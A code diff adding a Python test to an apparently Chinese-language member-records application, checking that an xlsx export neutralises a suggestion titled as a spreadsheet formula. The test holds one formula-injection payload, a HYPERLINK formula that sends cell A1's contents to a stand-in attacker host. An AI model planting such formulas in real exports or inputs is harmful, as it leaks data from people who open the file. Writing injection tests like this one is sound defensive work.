@@ -480,3 +480,33 @@ def test_no_number_can_be_rebuilt_by_a_user_without_the_reveal_right(
             if member.birth_date:
                 # No 6+4 mask beside a birth date.
                 assert number[:6] + "*" not in text, where
+
+
+# --- 14. no formula runs from a Tongxin spreadsheet ----------------------------------
+
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"详情")'
+
+
+def test_a_suggestion_titled_as_a_formula_stays_text_in_the_duty_record(
+    world, client_as
+):
+    from tongxin.participation import services as p
+
+    member = world.members["inside"]
+    p.suggestion_create(
+        by=world.root, author=member, title=HYPERLINK, text="正文", submit=True
+    )
+    response = client_as("staff").get(
+        f"/appraisal/members/{member.pk}/record/export/", {"format": "xlsx"}
+    )
+    assert response.status_code == 200
+    book = load_workbook(io.BytesIO(response.content))
+    cells = [
+        c
+        for sheet in book.worksheets
+        for row in sheet.iter_rows()
+        for c in row
+        if isinstance(c.value, str) and "HYPERLINK" in c.value
+    ]
+    assert cells, "the suggestion is in the record"
+    assert all(c.data_type == "s" and c.value == "'" + HYPERLINK for c in cells)
